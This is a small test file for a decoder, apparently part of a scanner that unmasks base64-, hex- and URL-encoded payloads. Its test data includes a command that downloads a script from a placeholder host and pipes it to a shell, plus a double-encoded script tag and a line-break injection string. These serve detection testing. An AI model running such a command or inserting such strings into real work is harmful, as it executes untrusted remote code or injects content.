import { expect, it } from "vitest";
import { decodeUrl, decodeWord } from "./decode-payloads.js";

it("decodes base64, also of UTF-16, and hexadecimal digits", () => {
  const hidden = "curl http://example.net/x | sh";
  expect(decodeWord(Buffer.from(hidden).toString("base64"))).toBe(hidden);
  expect(decodeWord(Buffer.from(hidden, "utf16le").toString("base64"))).toBe(hidden);
  expect(decodeWord(Buffer.from(hidden).toString("hex"))).toBe(hidden);
});

it("takes random digits and ordinary words for what they are", () => {
  expect(decodeWord("d41d8cd98f00b204e9800998ecf8427e")).toBeUndefined();
  expect(decodeWord("short")).toBeUndefined();
});

it("decodes URL escapes twice and keeps them on one line", () => {
  expect(decodeUrl("%253Cscript%253E")).toBe("<script>");
  expect(decodeUrl("a%0d%0aMar 14")).toBe("a Mar 14");
  expect(decodeUrl("nothing")).toBeUndefined();
});
